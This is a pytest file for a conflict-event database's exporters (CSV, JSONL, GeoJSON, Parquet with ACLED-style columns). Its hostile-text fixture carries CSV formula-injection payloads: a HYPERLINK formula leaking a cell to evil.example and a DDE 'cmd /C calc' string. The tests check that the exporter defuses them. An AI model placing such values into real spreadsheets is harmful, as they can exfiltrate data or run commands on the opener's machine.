"""Exports of the record: each format written, read back, and checked value by value."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from strife.errors import DiskFullError, ExportError, InputError, SettingsError
from strife.export import (
    ACLED_COLUMNS,
    COLUMNS,
    FORMATS,
    flatten_event,
    parquet_schema,
    write_export,
)
from strife.export import _parquet as parquet_module
from strife.export._text import csv_cell

# ---------------------------------------------------------------------------
# Record events we compose: a shelling with two sources, a protest with no
# coordinates, a record full of hostile text, and an absurd toll.
# ---------------------------------------------------------------------------


def _shelling() -> dict[str, Any]:
    return {
        "id": "ev-5c0ffee01234",
        "category": "explosions_remote_violence",
        "subtype": "shelling_artillery_missile_attack",
        "codes": {
            "acled": "Shelling/artillery/missile attack",
            "plover": "ASSAULT",
            "cameo": "194",
        },
        "date": {"start": "2014-08-03", "end": "2014-08-03", "precision": "day", "text": "Sunday"},
        "location": {
            "name": "Ḥimṣ al-Qadīma",
            "admin1": "Homs",
            "country": "SY",
            "lat": 34.7312,
            "lon": 36.7194,
            "gazetteer_id": "geonames:1234567",
            "precision": "neighbourhood",
            "text": "the old city",
            "basis": "event",
        },
        "actors": [
            {
                "role": "perpetrator",
                "text": "government forces",
                "kind": "state_forces",
                "country": "SY",
                "sources": ["s1", "s2"],
            },
            {
                "role": "victim",
                "text": "civilians",
                "kind": "civilians",
                "country": None,
                "sources": ["s1"],
            },
        ],
        "fatalities": {"low": 7, "best": 7, "high": 9, "rule": "acled_lowest_specific"},
        "injuries": {"low": 20, "best": 20, "high": 20, "rule": "acled_lowest_specific"},
        "sources": [
            {"name": "Orontes Monitoring Network", "kind": "monitoring_group", "articles": [11]},
            {"name": "Valley Post", "kind": "outlet", "articles": [11, 12]},
        ],
        "independent_sources": 2,
        "corroborated": True,
        "disputed": [],
        "reports": [
            {
                "article": {
                    "id": 11,
                    "location": "https://valley-post.example/2014/08/04/shelling",
                    "title": "Shells hit old quarter",
                    "published": "2014-08-04T09:15:00+03:00",
                    "publisher": "Valley Post",
                },
                "event": "a1b2c3d4e5f60718-e1",
                "score": 0.93,
                "reasons": {"place": 1.0, "date": 0.85},
                "method": "auto",
            },
            {
                "article": {
                    "id": 12,
                    "location": "https://valley-post.example/2014/08/05/toll",
                    "title": "Toll rises",
                    "published": "2014-08-05",
                    "publisher": "Valley Post",
                },
                "event": "0718a1b2c3d4e5f6-e2",
                "score": 0.88,
                "reasons": {"place": 1.0},
                "method": "auto",
            },
        ],
        "claims": [
            {
                "source": "Orontes Monitoring Network",
                "source_kind": "monitoring_group",
                "article": 11,
                "property": "fatalities",
                "value": 7,
                "low": 7,
                "high": 7,
                "qualifier": "exact",
                "hedge": "reported",
                "text": "seven people",
                "start": 210,
                "end": 222,
            },
            {
                "source": "Valley Post",
                "source_kind": "outlet",
                "article": 12,
                "property": "perpetrator",
                "value": "state_forces",
                "low": None,
                "high": None,
                "qualifier": None,
                "hedge": "asserted",
                "text": "government forces",
                "start": 40,
                "end": 57,
            },
        ],
        "created": "2026-11-25T10:00:00",
        "updated": "2026-11-25T11:00:00+00:00",
    }


def _protest() -> dict[str, Any]:
    return {
        "id": "ev-00000000beef",
        "category": "protests",
        "subtype": "peaceful_protest",
        "codes": {"acled": "Peaceful protest", "plover": "PROTEST", "cameo": "141"},
        "date": {
            "start": "2019-01-01",
            "end": "2019-01-31",
            "precision": "month",
            "text": "in January",
        },
        "location": {
            "name": None,
            "admin1": None,
            "country": "SD",
            "lat": None,
            "lon": None,
            "gazetteer_id": None,
            "precision": None,
            "text": "the capital",
            "basis": "country",
        },
        "actors": [
            {
                "role": "participant",
                "text": "teachers",
                "kind": "protesters",
                "country": "SD",
                "sources": ["s0"],
            }
        ],
        "fatalities": {"low": None, "best": None, "high": None, "rule": None},
        "injuries": {"low": None, "best": None, "high": None, "rule": None},
        "sources": [{"name": "Nile Courier", "kind": "outlet", "articles": [5]}],
        "independent_sources": 1,
        "corroborated": False,
        "disputed": [],
        "reports": [],
        "claims": [],
        "created": None,
        "updated": None,
    }


def _hostile() -> dict[str, Any]:
    """Scraped text at its worst: quotes, commas, newlines and formula attempts."""
    event = _shelling()
    event["id"] = "ev-bad0bad0bad0"
    event["location"] = {
        "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "admin1": 'Western Area, "Freetown"\nPeninsula',
        "country": "SL",
        "lat": 8.4844,
        "lon": -13.2344,
        "gazetteer_id": "-2",
        "precision": "city",
        "text": "Freetown",
        "basis": "event",
    }
    event["actors"] = [
        {
            "role": "perpetrator",
            "text": "+cmd|' /C calc'!A0",
            "kind": "rebel_group",
            "country": None,
            "sources": ["s1"],
        },
        {
            "role": "perpetrator",
            "text": "-2+3",
            "kind": "rebel_group",
            "country": None,
            "sources": ["s1"],
        },
    ]
    event["disputed"] = ["perpetrator"]
    event["sources"] = [
        {"name": "@SUM(1+1)", "kind": "unnamed", "articles": [4]},
        {"name": "Tab\tStart", "kind": "outlet", "articles": [4]},
    ]
    return event


def _absurd() -> dict[str, Any]:
    event = _shelling()
    event["id"] = "ev-999999999999"
    event["fatalities"] = {
        "low": 10**15,
        "best": 10**15,
        "high": 10**15,
        "rule": "acled_lowest_specific",
    }
    return event


def _export_text(records: list[dict[str, Any]], format: str) -> str:
    stream = io.StringIO()
    write_export(records, stream, format=format)
    return stream.getvalue()


def _csv_rows(records: list[dict[str, Any]]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_export_text(records, "csv"), newline="")))


def _parquet(records: list[dict[str, Any]]) -> pa.Table:
    stream = io.BytesIO()
    write_export(records, stream, format="parquet")
    stream.seek(0)
    return pq.read_table(stream)


# ---------------------------------------------------------------------------
# The entry point
# ---------------------------------------------------------------------------


def test_export_formats_are_the_four() -> None:
    assert FORMATS == ("csv", "jsonl", "geojson", "parquet")


def test_export_unknown_format_is_a_settings_error() -> None:
    with pytest.raises(SettingsError, match=r"unknown export format 'xlsx'.*csv, jsonl"):
        write_export([_shelling()], io.StringIO(), format="xlsx")


@pytest.mark.parametrize("format", FORMATS)
def test_export_to_a_path_returns_the_count_and_leaves_no_part_file(
    format: str, tmp_path: Path
) -> None:
    target = tmp_path / f"record.{format}"
    assert write_export([_shelling(), _protest()], target, format=format) == 2
    assert target.stat().st_size > 0
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_export_to_a_missing_folder_is_an_export_error(tmp_path: Path) -> None:
    target = tmp_path / "no-such-folder" / "record.csv"
    with pytest.raises(ExportError, match="no-such-folder does not exist") as caught:
        write_export([_shelling()], target, format="csv")
    assert caught.value.code == "E507"
    assert caught.value.exit_code == 5


@pytest.mark.parametrize("buffering", [0, -1], ids=["unbuffered", "buffered"])
@pytest.mark.parametrize("format", FORMATS)
def test_export_full_disk_is_a_disk_full_error(format: str, buffering: int) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("needs /dev/full (Linux)")
    full = open("/dev/full", "wb", buffering=buffering)  # noqa: SIM115
    try:
        with pytest.raises(DiskFullError, match="no space left") as caught:
            write_export([_shelling()], full, format=format)
        assert caught.value.code == "E503"
    finally:
        # Closing flushes what the buffer still holds, and the disk is still full.
        with contextlib.suppress(OSError):
            full.close()


def test_export_failure_keeps_the_older_file_and_removes_the_part(tmp_path: Path) -> None:
    target = tmp_path / "record.jsonl"
    target.write_text("older export\n", encoding="utf-8")

    def records() -> Iterator[dict[str, Any]]:
        yield _shelling()
        raise OSError(28, "No space left on device")  # the disk fills mid-way

    with pytest.raises(DiskFullError):
        write_export(records(), target, format="jsonl")
    assert target.read_text(encoding="utf-8") == "older export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["record.jsonl"]


def test_export_text_format_to_a_binary_stream_is_utf8_and_stays_open() -> None:
    stream = io.BytesIO()
    assert write_export([_shelling()], stream, format="jsonl") == 1
    assert not stream.closed
    assert "Ḥimṣ al-Qadīma".encode() in stream.getvalue()


def test_export_parquet_to_a_text_stream_is_refused() -> None:
    with pytest.raises(SettingsError, match="Parquet is binary"):
        write_export([_shelling()], io.StringIO(), format="parquet")


def test_export_bad_date_is_an_input_error_naming_the_event() -> None:
    event = _shelling()
    event["date"]["start"] = "3 August 2014"
    with pytest.raises(InputError, match=r"ev-5c0ffee01234.*3 August 2014"):
        write_export([event], io.StringIO(), format="csv")


@pytest.mark.parametrize("format", ["csv", "jsonl", "geojson"])
def test_export_text_formats_stream_one_event_at_a_time(format: str) -> None:
    stream = io.StringIO()

    def records() -> Iterator[dict[str, Any]]:
        yield _shelling()
        # The first event is written before the second is asked for.
        assert "ev-5c0ffee01234" in stream.getvalue()
        yield _protest()

    assert write_export(records(), stream, format=format) == 2


# ---------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------


def test_export_csv_header_is_acled_columns_then_strife_columns() -> None:
    header = next(csv.reader(io.StringIO(_export_text([], "csv"))))
    assert header == list(COLUMNS)
    assert header[:31] == [
        "event_id_cnty",
        "event_date",
        "year",
        "time_precision",
        "disorder_type",
        "event_type",
        "sub_event_type",
        "actor1",
        "assoc_actor_1",
        "inter1",
        "actor2",
        "assoc_actor_2",
        "inter2",
        "interaction",
        "civilian_targeting",
        "iso",
        "region",
        "country",
        "admin1",
        "admin2",
        "admin3",
        "location",
        "latitude",
        "longitude",
        "geo_precision",
        "source",
        "source_scale",
        "notes",
        "fatalities",
        "tags",
        "timestamp",
    ]
    assert tuple(header[:31]) == ACLED_COLUMNS
    assert header[31:41] == [
        "fatalities_low",
        "fatalities_high",
        "fatalities_rule",
        "injuries",
        "independent_sources",
        "corroborated",
        "disputed",
        "articles",
        "strife_category",
        "strife_subtype",
    ]


def test_export_csv_values_of_a_shelling_with_two_sources() -> None:
    (row,) = _csv_rows([_shelling()])
    assert row["event_id_cnty"] == "ev-5c0ffee01234"
    assert row["event_date"] == "2014-08-03"
    assert row["year"] == "2014"
    assert row["time_precision"] == "1"
    assert row["disorder_type"] == "Political violence"
    assert row["event_type"] == "Explosions/Remote violence"
    assert row["sub_event_type"] == "Shelling/artillery/missile attack"
    assert (row["actor1"], row["inter1"]) == ("government forces", "State forces")
    assert (row["actor2"], row["inter2"]) == ("civilians", "Civilians")
    assert row["interaction"] == "State forces-Civilians"
    assert row["civilian_targeting"] == "Civilians targeted"
    assert (row["iso"], row["country"], row["country_code"]) == ("760", "Syria", "SY")
    assert (row["region"], row["admin2"], row["admin3"], row["source_scale"]) == ("",) * 4
    assert (row["admin1"], row["location"]) == ("Homs", "Ḥimṣ al-Qadīma")
    assert (row["latitude"], row["longitude"], row["geo_precision"]) == ("34.7312", "36.7194", "1")
    assert row["source"] == "Orontes Monitoring Network; Valley Post"
    assert row["notes"] == (
        "On 3 August 2014, shelling/artillery/missile attack in Ḥimṣ al-Qadīma (Homs, Syria); "
        "perpetrator: government forces; 7 killed (reports range from 7 to 9)."
    )
    assert (row["fatalities"], row["fatalities_low"], row["fatalities_high"]) == ("7", "7", "9")
    assert row["fatalities_rule"] == "acled_lowest_specific"
    assert row["injuries"] == "20"
    assert row["timestamp"] == "1795604400"
    assert (row["independent_sources"], row["corroborated"], row["articles"]) == ("2", "true", "2")
    assert row["disputed"] == ""
    assert (row["strife_category"], row["strife_subtype"]) == (
        "explosions_remote_violence",
        "shelling_artillery_missile_attack",
    )
    assert (row["plover"], row["cameo"]) == ("ASSAULT", "194")


def test_export_csv_leaves_what_strife_does_not_know_empty() -> None:
    (row,) = _csv_rows([_protest()])
    assert row["fatalities"] == ""  # unknown, not zero
    assert row["latitude"] == row["longitude"] == row["geo_precision"] == ""
    assert row["actor1"] == ""  # no perpetrator is invented
    assert (row["actor2"], row["inter2"], row["interaction"]) == (
        "teachers",
        "Protesters",
        "Protesters only",
    )
    assert row["time_precision"] == "3"
    assert row["disorder_type"] == "Demonstrations"
    assert row["civilian_targeting"] == ""
    assert row["timestamp"] == ""
    assert (row["iso"], row["country"]) == ("729", "Sudan")
    assert row["notes"] == "In January 2019, peaceful protest."


def test_export_csv_keeps_quotes_commas_and_newlines_in_one_cell() -> None:
    (row,) = _csv_rows([_hostile()])
    assert row["admin1"] == 'Western Area, "Freetown"\nPeninsula'


def test_export_csv_defuses_formulas_but_not_negative_numbers() -> None:
    (row,) = _csv_rows([_hostile()])
    assert row["location"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["actor1"] == "'+cmd|' /C calc'!A0"
    assert row["actor1_alternatives"] == "'-2+3"
    assert row["source"] == "'@SUM(1+1); Tab\tStart"
    assert row["longitude"] == "-13.2344"
    assert row["gazetteer_id"] == "-2"
    assert row["notes"].startswith("On 3 August 2014")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("\tdata", "'\tdata"),
        ("\r=1", "'\r=1"),
        ("-1e5", "-1e5"),
        ("+12.5", "+12.5"),
        ("- leading dash", "'- leading dash"),
        (-7, "-7"),
        (-0.5, "-0.5"),
        (None, ""),
        (False, "false"),
        (["perpetrator", "fatalities"], "perpetrator; fatalities"),
        (date(2014, 8, 3), "2014-08-03"),
    ],
)
def test_export_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


def test_export_csv_writes_an_absurd_count_whole() -> None:
    (row,) = _csv_rows([_absurd()])
    assert row["fatalities"] == "1000000000000000"


def test_export_csv_disputed_perpetrator_versions_are_alternatives_not_associates() -> None:
    event = _hostile()
    event["disputed"] = ["perpetrator", "fatalities"]
    (row,) = _csv_rows([event])
    assert row["assoc_actor_1"] == ""
    assert row["actor1_alternatives"] == "'-2+3"
    assert row["disputed"] == "perpetrator; fatalities"
    assert "perpetrator disputed: +cmd|' /C calc'!A0 or -2+3" in row["notes"]
    event["disputed"] = []
    (row,) = _csv_rows([event])
    assert (row["assoc_actor_1"], row["actor1_alternatives"]) == ("'-2+3", "")


# ---------------------------------------------------------------------------
# ACLED mappings
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("precision", "start", "end", "expected"),
    [
        ("day", "2014-08-03", "2014-08-03", 1),
        ("range", "2014-08-03", "2014-08-03", 1),
        ("range", "2014-08-01", "2014-08-03", 2),
        ("week", "2014-08-04", "2014-08-10", 2),
        ("range", "2014-08-01", "2014-08-20", 3),
        ("month", "2014-08-01", "2014-08-31", 3),
        ("year", "2014-01-01", "2014-12-31", 3),
    ],
)
def test_export_time_precision(precision: str, start: str, end: str, expected: int) -> None:
    event = _shelling()
    event["date"] = {"start": start, "end": end, "precision": precision, "text": ""}
    row = flatten_event(event)
    assert row["time_precision"] == expected
    assert row["event_date"] == date.fromisoformat(start)


@pytest.mark.parametrize(
    ("precision", "expected"),
    [
        ("point", 1),
        ("neighbourhood", 1),
        ("city", 1),
        ("district", 2),
        ("admin1", 3),
        ("country", 3),
        (None, None),
    ],
)
def test_export_geo_precision(precision: str | None, expected: int | None) -> None:
    event = _shelling()
    event["location"]["precision"] = precision
    assert flatten_event(event)["geo_precision"] == expected


@pytest.mark.parametrize(
    ("key", "disorder"),
    [
        ("battles/armed_clash", "Political violence"),
        ("riots/violent_demonstration", "Demonstrations"),
        ("riots/mob_violence", "Political violence; Demonstrations"),
        ("protests/excessive_force_against_protesters", "Political violence; Demonstrations"),
        ("strategic_developments/arrests", "Strategic developments"),
        ("other/natural_disaster", None),
    ],
)
def test_export_disorder_type(key: str, disorder: str | None) -> None:
    event = _shelling()
    event["category"], event["subtype"] = key.split("/")
    row = flatten_event(event)
    assert row["disorder_type"] == disorder
    if disorder is None:
        assert row["event_type"] is row["sub_event_type"] is None


def test_export_interaction_names_the_lower_inter_code_first() -> None:
    event = _shelling()
    event["category"], event["subtype"] = "battles", "armed_clash"
    event["actors"] = [
        {"role": "perpetrator", "text": "Free Hills Brigade", "kind": "rebel_group"},
        {"role": "target", "text": "army", "kind": "state_forces"},
    ]
    row = flatten_event(event)
    assert (row["inter1"], row["inter2"]) == ("Rebel group", "State forces")
    assert row["interaction"] == "State forces-Rebel group"
    assert row["civilian_targeting"] is None


# ---------------------------------------------------------------------------
# JSON Lines and GeoJSON
# ---------------------------------------------------------------------------


def test_export_jsonl_writes_each_record_unchanged_and_unescaped() -> None:
    records = [_shelling(), _protest(), _hostile(), _absurd()]
    text = _export_text(records, "jsonl")
    lines = text.split("\n")
    assert lines[-1] == ""
    assert [json.loads(line) for line in lines[:-1]] == records
    assert "Ḥimṣ al-Qadīma" in text  # not \u escapes
    assert '"best": 1000000000000000' in lines[3]


def test_export_jsonl_refuses_nan() -> None:
    event = _shelling()
    event["location"]["lat"] = float("nan")
    with pytest.raises(InputError, match=r"ev-5c0ffee01234.*JSON"):
        _export_text([event], "jsonl")


def test_export_geojson_points_in_lon_lat_order_and_null_geometry() -> None:
    collection = json.loads(_export_text([_shelling(), _protest()], "geojson"))
    assert collection["type"] == "FeatureCollection"
    shelling, protest = collection["features"]
    assert shelling["type"] == "Feature"
    assert shelling["id"] == "ev-5c0ffee01234"
    assert shelling["geometry"] == {"type": "Point", "coordinates": [36.7194, 34.7312]}
    assert protest["geometry"] is None
    assert list(shelling["properties"]) == list(COLUMNS)
    assert shelling["properties"]["fatalities"] == 7
    assert shelling["properties"]["event_date"] == "2014-08-03"
    assert shelling["properties"]["corroborated"] is True
    assert shelling["properties"]["disputed"] == []
    assert "claims" not in shelling["properties"]


def test_export_geojson_of_nothing_is_an_empty_collection() -> None:
    assert json.loads(_export_text([], "geojson")) == {
        "type": "FeatureCollection",
        "features": [],
    }


# ---------------------------------------------------------------------------
# Parquet
# ---------------------------------------------------------------------------


def test_export_parquet_columns_and_types() -> None:
    table = _parquet([_shelling(), _protest()])
    assert table.schema.equals(parquet_schema())
    assert table.column_names == [*COLUMNS, "actors", "sources", "reports", "claims"]
    types = {field.name: field.type for field in table.schema}
    assert types["event_date"] == pa.date32()
    assert types["fatalities"] == pa.int64()
    assert types["latitude"] == pa.float64()
    assert types["corroborated"] == pa.bool_()
    assert types["disputed"] == pa.list_(pa.string())
    assert types["claims"].value_type.field("value_number").type == pa.int64()


def test_export_parquet_values() -> None:
    shelling, protest = _parquet([_shelling(), _protest()]).to_pylist()
    assert shelling["event_date"] == date(2014, 8, 3)
    assert shelling["fatalities"] == 7
    assert shelling["location"] == "Ḥimṣ al-Qadīma"
    assert shelling["iso"] == 760
    assert protest["fatalities"] is None
    assert protest["latitude"] is None
    assert shelling["sources"][1] == {"name": "Valley Post", "kind": "outlet", "articles": [11, 12]}
    assert shelling["actors"][0]["sources"] == ["s1", "s2"]
    first, second = shelling["reports"]
    assert first["article"]["published"] == "2014-08-04T09:15:00+03:00"
    assert dict(first["reasons"]) == {"place": 1.0, "date": 0.85}
    assert second["article"]["id"] == 12
    figure, perpetrator = shelling["claims"]
    assert (figure["value_number"], figure["value_label"]) == (7, None)
    assert (perpetrator["value_number"], perpetrator["value_label"]) == (None, "state_forces")
    assert figure["text"] == "seven people"
    assert protest["claims"] == protest["reports"] == []


def test_export_parquet_of_nothing_still_has_every_column(tmp_path: Path) -> None:
    target = tmp_path / "empty.parquet"
    assert write_export([], target, format="parquet") == 0
    table = pq.read_table(target)
    assert table.num_rows == 0
    assert table.schema.equals(parquet_schema())


def test_export_parquet_keeps_an_absurd_count_and_refuses_one_beyond_64_bits() -> None:
    (row,) = _parquet([_absurd()]).to_pylist()
    assert row["fatalities"] == 10**15
    event = _absurd()
    event["fatalities"]["high"] = 10**20
    with pytest.raises(InputError, match=r"ev-999999999999.*Parquet"):
        _parquet([event])


def test_export_parquet_writes_a_row_group_per_batch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parquet_module, "BATCH_ROWS", 2)
    target = tmp_path / "record.parquet"
    assert (
        write_export(
            [_shelling(), _protest(), _hostile(), _absurd(), _shelling()], target, format="parquet"
        )
        == 5
    )
    assert pq.ParquetFile(target).metadata.num_row_groups == 3
    assert pq.read_table(target).column("event_id_cnty").to_pylist()[2] == "ev-bad0bad0bad0"
